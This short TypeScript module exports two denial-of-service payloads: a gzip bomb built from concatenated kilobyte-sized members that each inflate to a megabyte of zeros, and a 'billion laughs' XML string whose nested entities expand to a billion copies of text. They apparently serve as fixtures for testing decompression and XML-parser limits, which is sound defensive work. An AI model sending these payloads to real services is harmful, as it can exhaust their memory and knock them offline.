import { gzipSync } from "node:zlib";

/** Gzip that says so many megabytes of nothing; each takes a kilobyte. */
export function gzipBomb(megabytes: number): Buffer {
  const one = gzipSync(Buffer.alloc(1_000_000));
  return Buffer.concat(Array.from({ length: megabytes }, () => one));
}

/** XML of a kilobyte whose entities stand for a thousand million texts. */
export const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE shows [
  <!ENTITY lol "lol">
${Array.from({ length: 9 }, (_, level) => `  <!ENTITY lol${level + 1} "${`&lol${level || ""};`.repeat(10)}">`).join("\n")}
]>
<shows>&lol9;</shows>`;
